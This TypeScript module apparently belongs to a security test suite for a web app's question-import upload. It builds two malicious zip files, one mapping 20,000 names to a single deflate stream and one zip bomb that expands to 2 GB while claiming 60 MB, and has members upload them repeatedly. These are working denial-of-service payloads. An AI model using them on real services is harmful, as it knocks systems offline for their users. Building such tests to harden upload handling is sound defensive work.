// Zip files that promise little and hold much: twenty thousand names for one stream without an end worth the name, and two gigabytes of nothing.
import { constants, deflateRawSync } from "node:zlib";
import type { Attack, Target } from "./attack";
import { keepAsking } from "./visitors";

const upload = "/questions/import/upload?name=bank.zip";

export const zip: Attack = {
  name: "zip",
  what: "a member uploads zip files: 20,000 names for one stream of 9 MB, and 2 GB packed into 2 MB",
  before: "the event loop held for 10–14 s at a time, for hours",
  begin,
};

async function begin(target: Target) {
  const { cookie } = await target.createMember();
  const other = await target.createMember();
  const [names, zeros] = [manyNames(), unpacksTo2Gb()];
  return keepAsking(target, [
    () => ({ path: upload, cookie, body: names }),
    () => ({ path: upload, cookie: other.cookie, body: zeros }),
  ]);
}

type Entry = { name: string; packed: number; size: number; header: number };

function central({ name, packed, size, header }: Entry): Buffer {
  const entry = Buffer.alloc(46 + name.length);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(packed, 20);
  entry.writeUInt32LE(size, 24);
  entry.writeUInt16LE(name.length, 28);
  entry.writeUInt32LE(header, 42);
  entry.write(name, 46);
  return entry;
}

/** One stream, under as many names as are given. */
function packAs(names: readonly string[], stream: Buffer, size: number): Buffer {
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  const entries = names.map((name) => central({ name, packed: stream.length, size, header: 0 }));
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + stream.length, 16);
  return Buffer.concat([local, stream, directory, end]);
}

function manyNames(): Buffer {
  const empty = Buffer.from([0, 0, 0, 0xff, 0xff]);
  const stream = Buffer.concat([...Array<Buffer>(1_600_000).fill(empty), Buffer.from([1, 0, 0, 0xff, 0xff])]);
  return packAs(
    Array.from({ length: 20_000 }, (_, index) => `${index}.md`),
    stream,
    0,
  );
}

/** It says that it holds 60 MB. */
function unpacksTo2Gb(): Buffer {
  const megabyte = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_SYNC_FLUSH });
  const stream = Buffer.concat([...Array<Buffer>(2_048).fill(megabyte), deflateRawSync(Buffer.alloc(0))]);
  return packAs(["a.md"], stream, 60 * 1024 * 1024);
}
